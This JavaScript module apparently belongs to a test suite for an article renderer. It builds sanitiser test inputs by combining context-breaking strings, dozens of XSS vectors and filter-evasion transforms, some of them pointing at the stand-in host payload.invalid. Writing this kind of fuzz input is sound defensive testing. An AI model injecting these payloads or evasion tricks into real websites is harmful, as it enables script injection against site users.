// What strangers put into articles: public collections, and combinations of our own.
import { corpus, textOf } from '../../node/corpora.js';
import { random } from '../../node/random.js';

/** What ends the context that a string may stand in. */
const breakers = [
  '', '"', "'", '`', '>', '">', "'>", '/>', '" ', "' ", '-->', '--!>', ']]>', '*/', '}', '</p>', '</a>', '</bdi>', '</article>', '</template>', '</offprint-article>', '</script>',
  '</style>', '</title>', '</textarea>', '</noscript>', '</svg>', '</math>', '</select>', '</table>', '<!--', '<![CDATA[', '<?', '<!', '</', '<', '&', '\\', '\\"', '\\u0022', '&quot;', '&#34;', '&#x22;>', '&gt;', '\n', '\r\n', '\t', '\f', '\0',
  '\u2028', '\u2029', '\u00a0', '\u200b', '\ufeff', '\u202e', '\ud800', '\udc00', '\u3008', '\uff1c', '%22%3E', '%00', ',', ', ', ' 1w, ', ';', '#', '?', '//', '/', '../', 'x:',
];

/** What then runs, loads or breaks out. */
const vectors = [
  '<script>alert(1)</script>', '<script src=//payload.invalid/x.js></script>', '<img src=x onerror=alert(1)>', '<img src=//payload.invalid/x.png>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><style><img src=x onerror=alert(1)>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">', '<iframe src=javascript:alert(1)>', '<iframe src=//payload.invalid/>', '<object data=javascript:alert(1)>', '<embed src=//payload.invalid/>',
  '<a href=javascript:alert(1)>x</a>', '<a href="java\tscript:alert(1)">x</a>', '<form action=javascript:alert(1)><button>x</button></form>', '<button formaction=javascript:alert(1)>x</button>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>', '<marquee onstart=alert(1)>', '<video src=x onerror=alert(1)>', '<audio src=//payload.invalid/x onerror=alert(1)>', '<link rel=stylesheet href=//payload.invalid/x.css>', '<style>@import url(//payload.invalid/x.css);</style>', '<style>*{background:url(//payload.invalid/x)}</style>',
  '<base href=//payload.invalid/>', '<meta http-equiv=refresh content="0;url=//payload.invalid/">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<template shadowrootmode=open><script>alert(1)</script></template>', '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea></textarea><img src=x onerror=alert(1)>', '<p style=background:url(//payload.invalid/x)>', '<plaintext>', '<xmp><script>alert(1)</script>', '<isindex action=javascript:alert(1) type=image>', '<portal src=//payload.invalid/>',
  '<img srcset="//payload.invalid/x 1x">', '<picture><source srcset=//payload.invalid/x><img></picture>', '<input type=image src=//payload.invalid/x>', '<table background=//payload.invalid/x>', '<img name=getElementById><form name=createElement>',
  'onerror=alert(1) x="', 'onmouseover="alert(1)" x="', 'autofocus tabindex=0 onfocus=alert(1) x="', 'style="background:url(//payload.invalid/x)', 'src=//payload.invalid/x', 'srcset=//payload.invalid/x', 'href=javascript:alert(1)', 'formaction=javascript:alert(1)',
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'java&Tab;script:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '\x01javascript:alert(1)', '\u00a0javascript:alert(1)', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>', 'vbscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://payload.invalid/1', 'filesystem:https://payload.invalid/1', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)', '//payload.invalid/x', '\\\\payload.invalid\\x', 'https:payload.invalid', 'https://a@payload.invalid/', '{"@context":"x"}', '","url":"javascript:alert(1)', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '__proto__', 'constructor', 'url(//payload.invalid/x)', 'expression(alert(1))', '-moz-binding:url(//payload.invalid/x)',
];

/** How filters are got round. */
const disguises = [
  (text) => text,
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&amp;lt;'),
  (text) => text.replace(/[<>"']/g, (character) => `&#${character.charCodeAt(0)}`),
  (text) => text.replace(/[<>"']/g, (character) => `\\u00${character.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"':]/g, encodeURIComponent),
  (text) => text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => text.replace(/(script|img|svg|onerror|onload)/gi, (word) => `${word.slice(0, 2)}\0${word.slice(2)}`),
  (text) => text.replace(/(script|img|svg|onerror|onload)/gi, (word) => `${word.slice(0, 2)}\u200b${word.slice(2)}`),
  (text) => text.replace(/script/gi, (word) => `${word.slice(0, 3)}${word}${word.slice(3)}`),
  (text) => text.replace(/ /g, '\f').replace(/=/g, '\n=\t'),
  (text) => text.replace(/ /g, '/'),
  (text) => `${text}\ud83d`,
  (text) => `\ufeff${text}`,
  (text) => `\u202e${text}`,
  (text) => text.replace(/</g, '<\udc00').replace(/>/g, '>\ufffe'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => `${text} ${text}`,
];

/** `count` combinations of breakers, vectors and disguises, the same every time. */
export function ownPayloads(count, seed = 20240914) {
  const pick = random(seed);
  const any = (list) => list[pick(list.length)];
  const made = new Set([...breakers.filter(Boolean), ...vectors]);
  while (made.size < count) made.add(any(disguises)(any(breakers) + (pick(4) === 0 ? any(breakers) : '') + any(vectors) + (pick(3) === 0 ? any(breakers) : '')));
  return [...made];
}

/** Everything there is, as {kind, text}. */
export function allPayloads(own = 3000) {
  const of = (kind, texts) => texts.map((text) => ({ kind, text }));
  return [
    ...of('html', corpus('html.jsonl').map(textOf)),
    ...of('text', corpus('text.jsonl').map(textOf)),
    ...of('url', corpus('url.jsonl').map(textOf)),
    ...of('own', ownPayloads(own)),
  ];
}
